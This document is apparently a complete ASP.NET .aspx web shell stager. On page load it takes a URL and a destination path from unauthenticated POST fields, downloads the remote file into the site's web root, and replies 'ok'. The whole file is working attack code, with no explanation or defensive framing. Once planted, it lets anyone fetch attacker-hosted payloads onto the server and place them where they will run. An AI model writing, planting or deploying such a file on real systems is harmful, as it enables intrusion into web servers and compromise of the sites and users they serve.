<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e)
{
    var wc = new System.Net.WebClient();
    wc.DownloadFile(Request.Form["src"], Server.MapPath("~/" + Request.Form["dst"]));
    Response.Write("ok");
}
</script>
